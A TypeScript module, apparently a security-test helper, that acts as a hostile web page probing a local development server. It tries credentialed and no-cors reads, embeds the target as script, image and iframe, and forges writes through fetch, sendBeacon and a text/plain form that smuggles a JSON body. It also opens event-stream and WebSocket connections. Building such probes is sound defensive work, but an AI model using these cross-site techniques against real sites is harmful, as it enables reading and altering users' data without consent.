/** What a hostile page knows of its victim. */
export interface Victim {
  /** Origin of the screen, or of the site beside it. */
  origin: string;
  /** Addresses that it tries to read, to load and to frame. */
  reads: string[];
  /** Where it sends its changes, and the changes. */
  update: string;
  bodies: string[];
}

/**
 * Tries everything that a page can do to another origin. Runs in the hostile page and uses nothing outside of itself.
 * What belongs together is tried at once, as some tries end only when their time is up.
 * @returns what it could read, a line each
 */
export async function attack({ origin, reads, update, bodies }: Victim): Promise<string[]> {
  const loot: string[] = [];
  const within = <T>(promise: Promise<T>) =>
    Promise.race([promise, new Promise<undefined>((done) => setTimeout(done, 3_000))]).catch(() => undefined);
  const read = async (way: string, url: string, init?: RequestInit) => {
    const response = await within(fetch(url, init));
    const text = response && (await within(response.text()));
    if (text) loot.push(`${way} ${url}: ${response.status} ${text.slice(0, 60)}`);
  };
  const show = async (tag: string, attributes: Record<string, string>) => {
    const element = document.createElement(tag);
    const arrived = new Promise<boolean>((done) => {
      element.onload = () => done(true);
      element.onerror = () => done(false);
    });
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return { element, hasArrived: await within(arrived) };
  };

  for (const url of reads) {
    await Promise.all([
      read('fetch', url),
      read('fetch with credentials', url, { credentials: 'include' }),
      read('fetch without CORS', url, { mode: 'no-cors' }),
      read('fetch with a header', url, { headers: { 'x-edit-token': 'A', 'no-cors': '1' } }),
    ]);
    const load = async (tag: string, attributes: Record<string, string>) => {
      if ((await show(tag, attributes)).hasArrived) loot.push(`<${tag}> ${url}`);
    };
    const frame = async () => {
      const { contentDocument, contentWindow } = (await show('iframe', { src: url, name: 'victim' }))
        .element as HTMLIFrameElement;
      if (contentDocument?.body.textContent) loot.push(`frame ${url}`);
      contentWindow?.postMessage({ type: 'edit:show', text: 'Hostile' }, '*');
    };
    await Promise.all([
      load('img', { src: url }),
      load('script', { src: url }),
      load('script', { src: url, type: 'module' }),
      load('link', { href: url, rel: 'stylesheet' }),
      load('video', { src: url }),
      frame(),
    ]);
  }

  for (const body of bodies) {
    const types = ['text/plain', 'application/json', 'application/x-www-form-urlencoded', undefined];
    for (const mode of ['cors', 'no-cors'] as const) {
      const send = (type: string | undefined) =>
        read('write', update, {
          method: 'POST',
          mode,
          body: new Blob([body]),
          ...(type && { headers: { 'content-type': type } }),
        });
      await Promise.all(types.map(send));
    }
    await Promise.all(['PUT', 'DELETE', 'PATCH'].map((method) => read(method, update, { method, body })));
    navigator.sendBeacon(update, body);
    navigator.sendBeacon(update, new Blob([body], { type: 'text/plain' }));

    // A form posts `text` and `=` and the value of its field: together they are JSON.
    const form = document.createElement('form');
    Object.assign(form, { method: 'post', action: update, target: 'posted', enctype: 'text/plain' });
    const field = document.createElement('input');
    field.name = `${body.slice(0, -1)},"x":"`;
    field.value = '"}';
    form.append(field);
    document.body.append(form);
    const { element } = await show('iframe', { name: 'posted' });
    const answered = new Promise((done) => {
      element.onload = done;
    });
    form.submit();
    await within(answered);
    element.remove();
  }

  const stream = new EventSource(`${origin}/state`);
  const socket = new WebSocket(`${origin.replace('http', 'ws')}/?token=A`, 'vite-hmr');
  const [event, opened] = await Promise.all([
    within(
      new Promise<string | undefined>((done) => {
        stream.onmessage = ({ data }) => done(String(data));
        stream.onerror = () => done(undefined);
      }),
    ),
    within(
      new Promise<string | undefined>((done) => {
        socket.onopen = () => done('open');
        socket.onerror = () => done(undefined);
      }),
    ),
  ]);
  if (event) loot.push(`events ${event}`);
  if (opened) loot.push('socket');
  stream.close();
  socket.close();
  return loot;
}
